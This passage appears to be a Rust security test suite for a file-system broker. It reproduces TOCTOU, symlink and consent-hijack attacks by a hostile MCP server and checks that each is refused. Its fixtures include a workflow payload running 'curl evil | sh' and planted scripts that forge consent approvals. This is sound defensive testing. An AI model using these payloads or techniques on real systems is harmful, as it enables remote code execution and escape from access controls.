//! Indirection: attacks through what a name leads to, changed between the broker's check and
//! its use or resolved otherwise than the check assumed (a folder renamed onto a denied one,
//! a file swapped for a folder, a link on the way to the policy or a root replaced, a listing
//! through a link into a nested root, `--root .` with absolute paths, a module or a `PATH`
//! entry planted for the consent command). Through the real binary over real pipes on real
//! temp dirs; each attack is ported from a reproducing script.
//!
//! Each test names its finding (F1 ... F11, R2 ... R4, and the relative `--root .`: the ids
//! the commit history uses), performs the attack
//! exactly as a hostile MCP server would, and asserts the behaviour wanted once it is fixed:
//! the exact refusal (`-31002` / `PERMISSION_DENIED`, its reason where the contract gives one,
//! `data.path` the path as sent) and the state of the disk (nothing landed, nothing ran,
//! nothing reloaded into a wider policy).
//!
//! | test | finding |
//! |---|---|
//! | `f1_*` | a chunked upload whose folder is renamed onto a denied folder lands there |
//! | `f2_*` | a write raced against the rename of its folder onto a denied folder lands there |
//! | `f3_*` | a module beside the consent script shadows the standard library and runs |
//! | `f4_*` | a consent program found through `PATH` is replaced by an earlier `PATH` entry |
//! | `f5_*` | a hop of the symlink chain leading to the policy is replaced, the reload obeys |
//! | `f6_*` | a root configured through a symlink is re-pointed by replacing the link |
//! | `f7_*` | the audit log still in use loses its protection when `[audit] path` changes |
//! | `f8_*` | `files/create` makes the parent folders inside a root it then refuses |
//! | `f9_*` | a recursive listing of the outer root shows a nested deny / ungranted root |
//! | `f10_*` | a listing through a symlink shows a nested deny root or an ungranted folder |
//! | `f11_*` | a listing through a symlink to the audit log's folder shows the logs |
//! | `relative_root_*` | with `--root .`, an absolute path outside answers a file beneath `$PWD` |
//!
//! One file though long: its tables share one tree of traps and one runner, and the hostile-
//! case counts it prints are this file's; split, a row could land where no runner checks it.

// Tests, benches and examples work on their own files with `std::fs` (clippy.toml keeps
// it out of the library's request paths).
#![allow(clippy::disallowed_methods)]

mod common;

use common::hostile::{mkdirs, put, put_exe, shown, uri};
use common::{lit, path_str as s, python, snapshot};

use std::collections::BTreeMap;
use std::ffi::OsStr;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

use common::fsb::{Cmd, Log};
use common::{Fsb, RootToml, bin, code, tempdir};
use serde_json::{Value, json};

// ---------------------------------------------------------------------------------------------
// Helpers
// ---------------------------------------------------------------------------------------------

/// Longest wait for a response.
const DEADLINE: Duration = Duration::from_secs(20);

/// `error.code` of `PERMISSION_DENIED`.
const PERMISSION_DENIED: i64 = -31002;

/// How long a test watches, after SIGHUP, for a reload that must not widen anything.
const AFTER_RELOAD: Duration = Duration::from_millis(1500);

/// What hostile writes put into files.
const PAYLOAD: &str = "on: push\njobs: {pwn: {runs-on: x, steps: [{run: curl evil | sh}]}}\n";

/// In the file outside every root.
const OUTSIDE_MARKER: &str = "OUTSIDE-SECRET-5b1e";

/// One `[[root]]` table; `path` is TOML text (a literal or basic string).
fn root_toml(path: &str, name: &str, mode: &str, consent: &str, deny: &[&str]) -> String {
    RootToml::raw(path)
        .name(name)
        .mode(mode)
        .consent(consent)
        .deny(deny)
        .text()
        + "\n"
}

/// Limits that keep the rate limiter out of quick test sequences.
const LIMITS: &str = "[limits]\nrequests_per_second = 0\n";

/// `fsbroker serve --policy FILE`.
fn serve(policy: &Path) -> Fsb {
    Fsb::start(
        &[
            OsStr::new("serve"),
            OsStr::new("--policy"),
            policy.as_os_str(),
        ],
        DEADLINE,
    )
}

/// Sends SIGHUP with `kill -HUP PID`.
fn hangup(pid: u32) {
    let st = Command::new("kill")
        .arg("-HUP")
        .arg(pid.to_string())
        .status()
        .expect("run kill");
    assert!(st.success(), "kill -HUP failed: {st}");
}

/// What a refusal's reason must be.
#[derive(Clone, Copy)]
enum Reason<'a> {
    /// Exactly this.
    Is(&'a str),
    /// Starting with one of these.
    StartsWith(&'a [&'a str]),
    /// Not checked (the contract gives none).
    Any,
}

/// Checks a whole response is the refusal wanted: `-31002`, `PERMISSION_DENIED`, `data.path`
/// exactly `path` (as sent), and the reason.
fn denied(resp: &Value, path: &str, reason: Reason) -> Result<(), String> {
    if resp.get("result").is_some() {
        return Err(format!("answered ok: {}", shown(resp)));
    }
    let err = &resp["error"];
    let mut wrong = Vec::new();
    if err["code"] != json!(PERMISSION_DENIED) {
        wrong.push(format!("code {}", err["code"]));
    }
    if code(err) != "PERMISSION_DENIED" {
        wrong.push(format!("data.code {}", err["data"]["code"]));
    }
    if err["data"]["path"].as_str() != Some(path) {
        wrong.push(format!(
            "data.path {} (want {})",
            err["data"]["path"],
            json!(path)
        ));
    }
    let got = err["data"]["reason"].as_str().unwrap_or_default();
    match reason {
        Reason::Is(want) if got != want => wrong.push(format!("reason {got:?} (want {want:?})")),
        Reason::StartsWith(wants) if !wants.iter().any(|w| got.starts_with(w)) => {
            wrong.push(format!("reason {got:?} (want one starting {wants:?})"))
        }
        _ => {}
    }
    if wrong.is_empty() {
        Ok(())
    } else {
        Err(format!("{}: {}", wrong.join(", "), shown(resp)))
    }
}

/// Everything a test found wrong, reported together at the end.
#[derive(Default)]
struct Problems(Vec<String>);

impl Problems {
    fn check(&mut self, what: &str, r: Result<(), String>) {
        if let Err(e) = r {
            self.0.push(format!("{what}: {e}"));
        }
    }

    fn push(&mut self, what: impl Into<String>) {
        self.0.push(what.into());
    }

    fn assert_none(self, headline: &str) {
        assert!(self.0.is_empty(), "{headline}:\n  {}", self.0.join("\n  "));
    }
}

/// What changed between two snapshots, one line per path.
fn diff(before: &BTreeMap<String, String>, after: &BTreeMap<String, String>) -> Vec<String> {
    let mut out = Vec::new();
    for (k, v) in after {
        match before.get(k) {
            None => out.push(format!("{k} appeared ({v})")),
            Some(old) if old != v => out.push(format!("{k} changed: {old} -> {v}")),
            _ => {}
        }
    }
    for k in before.keys() {
        if !after.contains_key(k) {
            out.push(format!("{k} disappeared"));
        }
    }
    out
}

/// Whether an entry exists at `p` (not following a final symlink).
fn exists(p: &Path) -> bool {
    std::fs::symlink_metadata(p).is_ok()
}

/// The `path`s of a `files/list` (hidden entries included), or the whole response on failure.
fn listed(b: &mut Fsb, path: &str, recursive: bool) -> Result<Vec<String>, Value> {
    let r = b.request(
        "files/list",
        json!({"path": path, "recursive": recursive, "includeHidden": true}),
    );
    match r["result"]["entries"].as_array() {
        Some(entries) => Ok(entries
            .iter()
            .map(|e| e["path"].as_str().unwrap().to_owned())
            .collect()),
        None => Err(r),
    }
}

/// Sends SIGHUP, then for [`AFTER_RELOAD`] checks that `roots/list` stays `roots` and that
/// none of `outside` (paths as a server would send them) is readable. Returns what was seen
/// instead, each kind once (a reload the policy watcher did first shows up the same way).
fn after_sighup(b: &mut Fsb, roots: &Value, outside: &[String]) -> Vec<String> {
    hangup(b.pid());
    let mut seen = Vec::new();
    let (mut roots_seen, mut read_seen) = (false, vec![false; outside.len()]);
    let start = Instant::now();
    while start.elapsed() < AFTER_RELOAD {
        let now = b.ok("roots/list", json!({}));
        if &now != roots && !roots_seen {
            roots_seen = true;
            seen.push(format!(
                "after SIGHUP roots/list is {} (was {})",
                shown(&now),
                shown(roots)
            ));
        }
        for (path, done) in outside.iter().zip(read_seen.iter_mut()) {
            let r = b.request("files/read", json!({"path": path}));
            if r.get("error").is_none() && !*done {
                *done = true;
                seen.push(format!("after SIGHUP {path} was read: {}", shown(&r)));
            }
        }
        if roots_seen && read_seen.iter().all(|&d| d) {
            break;
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    seen
}

/// What is at `p` now, for messages: a link and its target, a folder, a file, or nothing.
fn what_is(p: &Path) -> String {
    match std::fs::symlink_metadata(p) {
        Err(_) => "absent".into(),
        Ok(m) if m.file_type().is_symlink() => {
            format!("a link to {}", std::fs::read_link(p).unwrap().display())
        }
        Ok(m) if m.is_dir() => "a folder".into(),
        Ok(_) => "a file".into(),
    }
}

/// A consent command script that approves whatever is asked.
const APPROVE_ALL_PY: &str = "import json, sys\nr = json.load(sys.stdin)\nprint(json.dumps({'approvedPaths': r['requestedPaths']}))\n";

// ---------------------------------------------------------------------------------------------
// F1: a chunked upload whose folder is moved onto a denied folder
// ---------------------------------------------------------------------------------------------

/// `T/proj` (root `p`, read-write, auto, deny `.github/workflows/*.yml`) holding an empty
/// `.github/`, and `T/other` (root `o`, read-write, auto, no globs).
fn upload_world() -> (tempfile::TempDir, PathBuf, Fsb) {
    let (t, dir) = tempdir();
    mkdirs(&dir, &["proj/.github", "other", "policy"]);
    let policy = dir.join("policy/policy.toml");
    std::fs::write(
        &policy,
        format!(
            "{}{}{LIMITS}",
            root_toml(
                &lit(&dir.join("proj")),
                "p",
                "read-write",
                "auto",
                &[".github/workflows/*.yml"]
            ),
            root_toml(&lit(&dir.join("other")), "o", "read-write", "auto", &[]),
        ),
    )
    .unwrap();
    let b = serve(&policy);
    (t, dir, b)
}

/// The upload of `SRC/tmpd/evil.yml` started, `SRC/tmpd` renamed to `p/.github/workflows`,
/// `SRC/tmpd` made again, the final chunk sent. Either the rename or the final chunk must be
/// refused `PERMISSION_DENIED` (naming the path as sent), and no `evil.yml` may ever appear
/// under `.github/workflows`.
fn upload_then_move_folder_onto_denied(src: &str) {
    let (_t, dir, mut b) = upload_world();
    let proj = dir.join("proj");
    let landed = proj.join(".github/workflows/evil.yml");
    let mut problems = Problems::default();

    // Control: the name is denied to a plain write.
    let r = b.request(
        "files/write",
        json!({"path": "p/.github/workflows/evil.yml", "content": PAYLOAD}),
    );
    problems.check(
        "control: a plain write of the denied name",
        denied(
            &r,
            "p/.github/workflows/evil.yml",
            Reason::Is("denied by policy"),
        ),
    );

    let tmpd = format!("{src}/tmpd");
    let file = format!("{tmpd}/evil.yml");
    b.ok("files/create", json!({"path": tmpd, "type": "directory"}));
    b.ok(
        "files/write",
        json!({"path": file, "content": PAYLOAD, "offset": 0, "final": false}),
    );
    let rename = b.request(
        "files/rename",
        json!({"oldPath": tmpd, "newPath": "p/.github/workflows"}),
    );
    if rename.get("result").is_some() {
        // The folder moved: the scratch folder is made again for the last chunk's path.
        b.request("files/create", json!({"path": tmpd, "type": "directory"}));
    }
    let last = b.request(
        "files/write",
        json!({"path": file, "content": "", "offset": PAYLOAD.len(), "final": true}),
    );

    if exists(&landed) {
        problems.push(format!(
            "{} landed on the denied name (rename answered {}, final chunk answered {})",
            landed.display(),
            shown(&rename),
            shown(&last)
        ));
    }
    if rename.get("result").is_some() {
        problems.check(
            "the final chunk, after its folder was moved onto the denied folder",
            denied(&last, &file, Reason::Any),
        );
    } else {
        // Either path of the rename may be the one blamed.
        let blamed = denied(&rename, "p/.github/workflows", Reason::Any)
            .or_else(|_| denied(&rename, &tmpd, Reason::Any));
        problems.check("the rename of the folder holding the upload", blamed);
    }
    let workflows = proj.join(".github/workflows");
    if workflows.is_dir() {
        let names: Vec<String> = snapshot(&workflows)
            .into_keys()
            .filter(|n| !n.contains(".fsbroker-"))
            .collect();
        if !names.is_empty() {
            problems.push(format!(".github/workflows holds {names:?}"));
        }
    }
    problems.assert_none(&format!(
        "F1: an upload started in {tmpd} and moved onto .github/workflows"
    ));
}

/// F1: deny `.github/workflows/*.yml`; start an upload in `p/tmpd`, rename `p/tmpd` onto
/// `p/.github/workflows`, make `p/tmpd` again and send the final chunk: nothing may land at
/// `.github/workflows/evil.yml` (the rename or the final chunk is refused).
#[test]
fn f1_an_upload_moved_onto_a_denied_folder_never_lands_there() {
    upload_then_move_folder_onto_denied("p");
}

/// F1, across roots: the upload starts in `o/tmpd` (a root without globs) and its folder is
/// renamed onto `p/.github/workflows`.
#[test]
fn f1_an_upload_moved_onto_a_denied_folder_of_another_root_never_lands_there() {
    upload_then_move_folder_onto_denied("o");
}

// ---------------------------------------------------------------------------------------------
// F2: a write raced against the rename of its folder
// ---------------------------------------------------------------------------------------------

/// `T/proj` (with an empty `.github`) as the read-write auto root `p` denying `glob`, served
/// live. Returns the temp dir, `T/proj` and the broker.
fn one_root_denying(glob: &str) -> (tempfile::TempDir, PathBuf, Fsb) {
    let (t, dir) = tempdir();
    let proj = dir.join("proj");
    mkdirs(&dir, &["proj/.github", "policy"]);
    let policy = dir.join("policy/policy.toml");
    std::fs::write(
        &policy,
        format!(
            "{}{LIMITS}",
            root_toml(&lit(&proj), "p", "read-write", "auto", &[glob])
        ),
    )
    .unwrap();
    let b = serve(&policy);
    (t, proj, b)
}

/// F2: deny `.github/workflows/*`; again and again, make an empty `p/tN`, then send
/// `files/write p/tN/evil.yml` and `files/rename p/tN -> p/.github/workflows` back to back
/// without waiting. Whichever wins, `evil.yml` must never exist under `.github/workflows`.
/// (Whatever landed legitimately is removed after each try.)
#[test]
fn f2_a_write_raced_against_moving_its_folder_onto_a_denied_folder_never_lands_there() {
    let (_t, proj, mut b) = one_root_denying(".github/workflows/*");
    let workflows = proj.join(".github/workflows");
    let landed = workflows.join("evil.yml");
    let start = Instant::now();
    let (mut tries, mut renamed, mut written) = (0, 0, 0);
    for i in 0..300 {
        if start.elapsed() > Duration::from_secs(15) {
            break;
        }
        tries += 1;
        let d = format!("p/t{i}");
        b.ok("files/create", json!({"path": d, "type": "directory"}));
        let w = b.send(
            "files/write",
            json!({"path": format!("{d}/evil.yml"), "content": "x"}),
        );
        let r = b.send(
            "files/rename",
            json!({"oldPath": d, "newPath": "p/.github/workflows"}),
        );
        let (rw, rr) = (b.response(w), b.response(r));
        assert!(
            !exists(&landed),
            "F2: at try {i} evil.yml landed under the denied .github/workflows \
             (write answered {}, rename answered {})",
            shown(&rw),
            shown(&rr)
        );
        if rr.get("result").is_some() {
            renamed += 1;
            std::fs::remove_dir_all(&workflows).unwrap();
        }
        if rw.get("result").is_some() {
            written += 1;
        }
        let _ = std::fs::remove_dir_all(proj.join(format!("t{i}")));
    }
    println!(
        "F2: {tries} tries in {:?}: {written} writes, {renamed} renames answered ok",
        start.elapsed()
    );
}

// ---------------------------------------------------------------------------------------------
// F3: code beside the consent script
// ---------------------------------------------------------------------------------------------

/// F3: the consent command is `[python3, T/proj/tools/consent.py]` (a script that always says
/// no) and `T/proj` is a read-write auto root `p`. A server writing `p/tools/json.py` (which
/// `import json` in the script would load first) must be refused "protected…", as must every
/// create, rename and delete beneath the consent command's folder; and at the next
/// `files/consent` no code the server wrote runs (it would leave a marker file) and the prompt
/// root stays closed.
#[test]
fn f3_the_consent_scripts_folder_is_protected_so_no_server_module_runs_at_consent() {
    let (_t, dir) = tempdir();
    let proj = dir.join("proj");
    let tools = proj.join("tools");
    let marker = dir.join("PWNED");
    put(
        &tools.join("consent.py"),
        "import json, sys\njson.load(sys.stdin)\nprint(json.dumps({'approvedPaths': []}))\n",
    );
    put(&tools.join("helper.py"), "X = 1\n");
    put(&tools.join("helper2.py"), "Y = 1\n");
    put(&proj.join("spare.py"), "Z = 1\n");
    put(&dir.join("private/secret.txt"), OUTSIDE_MARKER);
    let policy = dir.join("policy/policy.toml");
    put(
        &policy,
        &format!(
            "{}{}{}[consent]\ncommand = [{}, {}]\nterminal = false\ntimeout_ms = 20000\n\n{LIMITS}",
            root_toml(&lit(&proj), "p", "read-write", "auto", &[]),
            // In a read-write root the policy would be refused at load (see
            // `consent_files_in_a_read_write_root_refuse_the_policy`).
            root_toml(&lit(&tools), "tools", "read-only", "auto", &[]),
            root_toml(
                &lit(&dir.join("private")),
                "priv",
                "read-only",
                "prompt",
                &[]
            ),
            lit(Path::new(python())),
            lit(&tools.join("consent.py")),
        ),
    );
    let mut b = serve(&policy);
    let mut problems = Problems::default();
    let protected = Reason::StartsWith(&["protected"]);

    // Controls: the script itself is protected; it says no.
    let r = b.request(
        "files/write",
        json!({"path": "p/tools/consent.py", "content": "x"}),
    );
    problems.check(
        "control: write of the script",
        denied(&r, "p/tools/consent.py", protected),
    );
    let r = b.ok(
        "files/consent",
        json!({"message": "m", "requestedPaths": ["priv"]}),
    );
    if r["granted"] != json!(false) {
        problems.push(format!("control: the script approved {}", shown(&r)));
    }

    // The attack: a module shadowing the standard library's `json`, beside the script.
    let evil = format!(
        "import os, sys\nopen({marker:?}, 'w').write('ran')\n\
         sys.stdout.write('{{\"approvedPaths\": [{priv:?}]}}')\nsys.stdout.flush()\nos._exit(0)\n",
        marker = s(&marker),
        priv = s(&dir.join("private")),
    );
    let before = snapshot(&dir);
    let r = b.request(
        "files/write",
        json!({"path": "p/tools/json.py", "content": evil}),
    );
    problems.check(
        "files/write p/tools/json.py",
        denied(&r, "p/tools/json.py", protected),
    );
    let r = b.request(
        "files/consent",
        json!({"message": "m", "requestedPaths": ["priv"]}),
    );
    if exists(&marker) {
        problems.push(format!(
            "the consent command ran the server's json.py (files/consent answered {})",
            shown(&r)
        ));
    }
    if r["result"]["granted"] == json!(true) {
        problems.push(format!("files/consent granted: {}", shown(&r)));
    }
    let r = b.request("files/read", json!({"path": "priv/secret.txt"}));
    problems.check(
        "the prompt root after consent",
        denied(&r, "priv/secret.txt", Reason::Is("no consent")),
    );
    if problems.0.is_empty() {
        let after = diff(&before, &snapshot(&dir));
        if !after.is_empty() {
            problems.push(format!("the disk changed: {after:?}"));
        }
    }

    // Every other way to put or remove code beneath the script's folder.
    let rows: [(&str, Value, &str); 6] = [
        (
            "files/create",
            json!({"path": "p/tools/new.py", "type": "file"}),
            "p/tools/new.py",
        ),
        (
            "files/create",
            json!({"path": "p/tools/pkg/mod.py", "type": "file"}),
            "p/tools/pkg/mod.py",
        ),
        (
            "files/create",
            json!({"path": "p/tools/sub", "type": "directory"}),
            "p/tools/sub",
        ),
        (
            "files/rename",
            json!({"oldPath": "p/spare.py", "newPath": "p/tools/spare.py"}),
            "p/tools/spare.py",
        ),
        (
            "files/rename",
            json!({"oldPath": "p/tools/helper.py", "newPath": "p/helper.py"}),
            "p/tools/helper.py",
        ),
        (
            "files/delete",
            json!({"path": "p/tools/helper2.py"}),
            "p/tools/helper2.py",
        ),
    ];
    for (method, params, blame) in rows {
        let before = snapshot(&dir);
        let r = b.request(method, params.clone());
        problems.check(&format!("{method} {params}"), denied(&r, blame, protected));
        let changed = diff(&before, &snapshot(&dir));
        if !changed.is_empty() {
            problems.push(format!("{method} {params} changed the disk: {changed:?}"));
        }
    }
    problems.assert_none("F3: code beside the consent script");
}

// ---------------------------------------------------------------------------------------------
// F4: the consent program found through PATH
// ---------------------------------------------------------------------------------------------

/// F4: the consent command's program is a bare name (`fsb-review-consent`) that exists only in
/// `T/realbin`; the broker runs with `PATH=T/home/bin:T/realbin:$PATH`, and `T/home` is a
/// read-write auto root. The server overwrites an existing executable (`home/proj/build.sh`,
/// whose mode a write keeps), makes `home/bin` and renames the file to
/// `home/bin/fsb-review-consent`. At the next `files/consent` on the prompt root the broker must
/// run the program it resolved at load: the server's program never runs (it would leave a
/// marker file), the real one is asked, and the prompt root stays closed.
#[test]
fn f4_the_consent_program_is_the_one_resolved_at_load_not_a_later_path_lookup() {
    let (_t, dir) = tempdir();
    let home = dir.join("home");
    let marker = dir.join("PWNED");
    let asked = dir.join("asked.log");
    const NAME: &str = "fsb-review-consent";
    put_exe(
        &dir.join("realbin").join(NAME),
        &format!(
            "#!{}\nimport json, sys\njson.load(sys.stdin)\nopen({:?}, 'a').write('asked\\n')\n\
             print(json.dumps({{'approvedPaths': []}}))\n",
            python(),
            s(&asked)
        ),
    );
    put_exe(&home.join("proj/build.sh"), "#!/bin/sh\necho build\n");
    put(&dir.join("private/secret.txt"), OUTSIDE_MARKER);
    let policy = dir.join("cfg/policy.toml");
    put(
        &policy,
        &format!(
            "{}{}[consent]\ncommand = [\"{NAME}\"]\nterminal = false\ntimeout_ms = 20000\n\n{LIMITS}",
            root_toml(&lit(&home), "home", "read-write", "auto", &[]),
            root_toml(
                &lit(&dir.join("private")),
                "priv",
                "read-only",
                "prompt",
                &[]
            ),
        ),
    );
    let path = format!(
        "{}:{}:{}",
        s(&home.join("bin")),
        s(&dir.join("realbin")),
        std::env::var("PATH").unwrap_or_default()
    );
    let mut b = Fsb::spawn_program(
        "env",
        &[
            format!("PATH={path}"),
            bin().to_owned(),
            "serve".into(),
            "--policy".into(),
            s(&policy),
        ],
    );
    let mut problems = Problems::default();

    // Control: the real program is asked, and says no.
    let r = b.ok(
        "files/consent",
        json!({"message": "m", "requestedPaths": ["priv"]}),
    );
    assert_eq!(r["granted"], json!(false), "control: {r}");
    assert_eq!(
        std::fs::read_to_string(&asked).unwrap_or_default(),
        "asked\n",
        "control: the real consent program was not run"
    );

    // The attack.
    let evil = format!(
        "#!/bin/sh\necho ran > '{}'\necho '{{\"approvedPaths\": [\"{}\"]}}'\n",
        s(&marker),
        s(&dir.join("private"))
    );
    b.ok(
        "files/write",
        json!({"path": "home/proj/build.sh", "content": evil}),
    );
    b.request(
        "files/create",
        json!({"path": "home/bin", "type": "directory"}),
    );
    let planted = b.request(
        "files/rename",
        json!({"oldPath": "home/proj/build.sh", "newPath": format!("home/bin/{NAME}")}),
    );
    let r = b.request(
        "files/consent",
        json!({"message": "m", "requestedPaths": ["priv"]}),
    );
    if exists(&marker) {
        problems.push(format!(
            "the server's program in an earlier PATH entry ran as the consent command \
             (rename answered {}, files/consent answered {})",
            shown(&planted),
            shown(&r)
        ));
    }
    if r["result"]["granted"] == json!(true) {
        problems.push(format!("files/consent granted: {}", shown(&r)));
    }
    let times = std::fs::read_to_string(&asked).unwrap_or_default();
    if times != "asked\nasked\n" {
        problems.push(format!(
            "the real consent program was not asked the second time (its log: {times:?})"
        ));
    }
    let r = b.request("files/read", json!({"path": "priv/secret.txt"}));
    problems.check(
        "the prompt root after consent",
        denied(&r, "priv/secret.txt", Reason::Is("no consent")),
    );
    problems.assert_none("F4: a consent program planted earlier in PATH");
}

// ---------------------------------------------------------------------------------------------
// F5: the policy reached through a chain of symlinks
// ---------------------------------------------------------------------------------------------

/// The world of F5, in a fresh temp dir `T`:
///
/// ```text
/// T/outside/secret.txt
/// T/home/                      root `home` (read-write, auto)
/// T/home/src/dotfiles/fsbroker.toml     the policy
/// T/home/.dotfiles -> src/dotfiles      the middle hop (a user's link)
/// T/home/cfg/fsbroker.toml -> ../.dotfiles/fsbroker.toml   the path given to --policy
/// T/home/alt -> alt_dotfiles            another user's link;  T/home/alt_dotfiles/
/// ```
struct Chain {
    _t: tempfile::TempDir,
    dir: PathBuf,
    home: PathBuf,
    b: Fsb,
}

impl Chain {
    fn new() -> Chain {
        let (t, dir) = tempdir();
        let home = dir.join("home");
        put(&dir.join("outside/secret.txt"), OUTSIDE_MARKER);
        mkdirs(&home, &["src/dotfiles", "cfg", "alt_dotfiles"]);
        put(
            &home.join("src/dotfiles/fsbroker.toml"),
            &format!(
                "{}{LIMITS}",
                root_toml(&lit(&home), "home", "read-write", "auto", &[])
            ),
        );
        symlink("src/dotfiles", home.join(".dotfiles")).unwrap();
        symlink("../.dotfiles/fsbroker.toml", home.join("cfg/fsbroker.toml")).unwrap();
        symlink("alt_dotfiles", home.join("alt")).unwrap();
        let b = serve(&home.join("cfg/fsbroker.toml"));
        Chain {
            _t: t,
            dir,
            home,
            b,
        }
    }

    /// A policy granting the whole file system.
    fn evil() -> String {
        format!(
            "{}{LIMITS}",
            root_toml("'/'", "all", "read-write", "auto", &[])
        )
    }

    /// The outside file as a server would try it: absolutely and through a root `all`.
    fn outside(&self) -> Vec<String> {
        let p = s(&self.dir.join("outside/secret.txt"));
        vec![p.clone(), format!("all{p}")]
    }
}

/// F5: the policy is `home/cfg/fsbroker.toml -> ../.dotfiles/fsbroker.toml` with
/// `home/.dotfiles -> src/dotfiles`, all inside the read-write root `home`. Deleting, renaming
/// away or replacing the middle link `.dotfiles` must be refused "protected…" (as are the
/// other hops, the controls); after each attempt and the rest of its attack (a folder of the
/// same name holding a policy granting `/`), a reload by SIGHUP leaves `roots/list` unchanged
/// and the outside file unreadable.
#[test]
fn f5_no_hop_of_the_symlink_chain_to_the_policy_can_be_replaced() {
    let protected = Reason::StartsWith(&["protected"]);
    let mut problems = Problems::default();

    // Controls, on the hops that are protected today.
    {
        let mut c = Chain::new();
        let before = snapshot(&c.home);
        for (method, params, blame) in [
            (
                "files/delete",
                json!({"path": "home/cfg/fsbroker.toml"}),
                "home/cfg/fsbroker.toml",
            ),
            (
                "files/delete",
                json!({"path": "home/cfg", "recursive": true}),
                "home/cfg",
            ),
            (
                "files/delete",
                json!({"path": "home/src/dotfiles", "recursive": true}),
                "home/src/dotfiles",
            ),
            (
                "files/rename",
                json!({"oldPath": "home/src", "newPath": "home/src2"}),
                "home/src",
            ),
        ] {
            let r = c.b.request(method, params.clone());
            problems.check(
                &format!("control: {method} {params}"),
                denied(&r, blame, protected),
            );
        }
        let changed = diff(&before, &snapshot(&c.home));
        if !changed.is_empty() {
            problems.push(format!("controls changed the disk: {changed:?}"));
        }
    }

    type Step = (&'static str, Value);
    let rows: [(&str, Step, &str, Vec<Step>); 3] = [
        (
            "delete the middle link",
            ("files/delete", json!({"path": "home/.dotfiles"})),
            "home/.dotfiles",
            vec![
                (
                    "files/create",
                    json!({"path": "home/.dotfiles", "type": "directory"}),
                ),
                (
                    "files/write",
                    json!({"path": "home/.dotfiles/fsbroker.toml", "content": Chain::evil()}),
                ),
            ],
        ),
        (
            "rename the middle link away",
            (
                "files/rename",
                json!({"oldPath": "home/.dotfiles", "newPath": "home/dotfiles.old"}),
            ),
            "home/.dotfiles",
            vec![
                (
                    "files/create",
                    json!({"path": "home/.dotfiles", "type": "directory"}),
                ),
                (
                    "files/write",
                    json!({"path": "home/.dotfiles/fsbroker.toml", "content": Chain::evil()}),
                ),
            ],
        ),
        (
            "replace the middle link by renaming another link onto it",
            (
                "files/rename",
                json!({"oldPath": "home/alt", "newPath": "home/.dotfiles", "overwrite": true}),
            ),
            "home/.dotfiles",
            vec![],
        ),
    ];
    for (label, (method, params), blame, rest) in rows {
        let mut c = Chain::new();
        let roots = c.b.ok("roots/list", json!({}));
        // The replacement policy a server may write beforehand (allowed: an ordinary file).
        c.b.ok(
            "files/write",
            json!({"path": "home/alt_dotfiles/fsbroker.toml", "content": Chain::evil()}),
        );
        let link_before = std::fs::read_link(c.home.join(".dotfiles")).unwrap();
        let r = c.b.request(method, params.clone());
        problems.check(
            &format!("{label}: {method} {params}"),
            denied(&r, blame, protected),
        );
        for (m, p) in rest {
            c.b.request(m, p);
        }
        if std::fs::read_link(c.home.join(".dotfiles")).ok() != Some(link_before) {
            let now = what_is(&c.home.join(".dotfiles"));
            problems.push(format!("{label}: home/.dotfiles is now {now}"));
        }
        let outside = c.outside();
        for seen in after_sighup(&mut c.b, &roots, &outside) {
            problems.push(format!("{label}: {seen}"));
        }
    }
    problems.assert_none("F5: a hop of the symlink chain to the policy");
}

// ---------------------------------------------------------------------------------------------
// F6: a root configured through a symlink
// ---------------------------------------------------------------------------------------------

/// F6 world: `T/proj` (root `p`, read-write, auto), `T/vendor/readme.txt`, the user's links
/// `T/proj/vendor -> T/vendor` (the root `vendor` is configured as `path = "proj/vendor"`) and
/// `T/proj/secret-link -> T/home-secret` (holding `id_rsa`).
fn vendor_world() -> (tempfile::TempDir, PathBuf, Fsb) {
    let (t, dir) = tempdir();
    let proj = dir.join("proj");
    std::fs::create_dir(&proj).unwrap();
    put(&dir.join("vendor/readme.txt"), "vendor readme");
    put(&dir.join("home-secret/id_rsa"), OUTSIDE_MARKER);
    symlink(dir.join("vendor"), proj.join("vendor")).unwrap();
    symlink(dir.join("home-secret"), proj.join("secret-link")).unwrap();
    let policy = dir.join("policy.toml");
    std::fs::write(
        &policy,
        format!(
            "{}{}{LIMITS}",
            root_toml("\"proj\"", "p", "read-write", "auto", &[]),
            root_toml("\"proj/vendor\"", "vendor", "read-only", "auto", &[]),
        ),
    )
    .unwrap();
    let b = serve(&policy);
    (t, dir, b)
}

/// F6: a second root configured through the user's symlink `proj/vendor` inside the
/// read-write root `p`. Renaming another link onto it, deleting it, or renaming it away (each
/// followed by putting the user's `secret-link` in its place) is refused "the root itself…" or
/// "protected…"; after SIGHUP `roots/list` is unchanged, `vendor/readme.txt` still reads and
/// `vendor/id_rsa` does not.
#[test]
fn f6_the_symlink_a_root_is_configured_through_cannot_be_replaced() {
    let reason = Reason::StartsWith(&["the root itself", "protected"]);
    let mut problems = Problems::default();
    let onto = (
        "files/rename",
        json!({"oldPath": "p/secret-link", "newPath": "p/vendor"}),
    );
    let rows = [
        (
            "rename another link onto it",
            (
                "files/rename",
                json!({"oldPath": "p/secret-link", "newPath": "p/vendor", "overwrite": true}),
            ),
            "p/vendor",
            None,
        ),
        (
            "delete it, then rename another link to its name",
            ("files/delete", json!({"path": "p/vendor"})),
            "p/vendor",
            Some(onto.clone()),
        ),
        (
            "rename it away, then rename another link to its name",
            (
                "files/rename",
                json!({"oldPath": "p/vendor", "newPath": "p/vendor.old"}),
            ),
            "p/vendor",
            Some(onto),
        ),
    ];
    for (label, (method, params), blame, rest) in rows {
        let (_t, dir, mut b) = vendor_world();
        // Control: the user's other link leads out of every root.
        let r = b.request("files/read", json!({"path": "p/secret-link/id_rsa"}));
        problems.check(
            &format!("{label}: control"),
            denied(&r, "p/secret-link/id_rsa", Reason::Is("outside every root")),
        );
        let roots = b.ok("roots/list", json!({}));
        let r = b.request(method, params.clone());
        problems.check(
            &format!("{label}: {method} {params}"),
            denied(&r, blame, reason),
        );
        if let Some((m, p)) = rest {
            b.request(m, p);
        }
        if std::fs::read_link(dir.join("proj/vendor")).ok() != Some(dir.join("vendor")) {
            let now = what_is(&dir.join("proj/vendor"));
            problems.push(format!("{label}: proj/vendor is now {now}"));
        }
        for seen in after_sighup(&mut b, &roots, &["vendor/id_rsa".to_owned()]) {
            problems.push(format!("{label}: {seen}"));
        }
        let r = b.request("files/read", json!({"path": "vendor/readme.txt"}));
        if r["result"]["content"] != "vendor readme" {
            problems.push(format!(
                "{label}: after SIGHUP vendor/readme.txt answers {}",
                shown(&r)
            ));
